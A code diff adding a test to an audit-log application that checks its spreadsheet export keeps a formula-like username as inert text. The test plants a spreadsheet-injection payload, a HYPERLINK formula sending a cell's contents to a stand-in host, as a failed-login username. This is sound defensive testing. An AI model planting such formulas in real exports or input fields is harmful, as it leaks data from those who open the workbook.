@@ -126,3 +126,16 @@ def test_alerts_show_lockouts_account_changes_and_bursts_of_refusals(
     html = response.content.decode()
     assert "变更账户角色或单位" in html and "demo-expert" in html
     assert trail(action=AuditAction.AUDIT_ALERTS_VIEWED, actor_username="demo-auditor").count() == 1
+
+
+def test_an_object_named_like_a_formula_stays_text_in_the_export(client_as: Callable[[str], Client]) -> None:
+    """The trail holds what users typed (task titles, names): the auditor's workbook must never run it."""
+    from shidian.core import audit
+
+    formula = '=HYPERLINK("http://example.invalid/?d="&B3,"点此查看详情")'
+    audit.record(action=AuditAction.LOGIN_FAILED, username=formula, success=False)
+    response = client_as("demo-auditor").get(EXPORT, {"outcome": "failure"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet is not None
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
+    assert cells and all(c.data_type == "s" for c in cells)
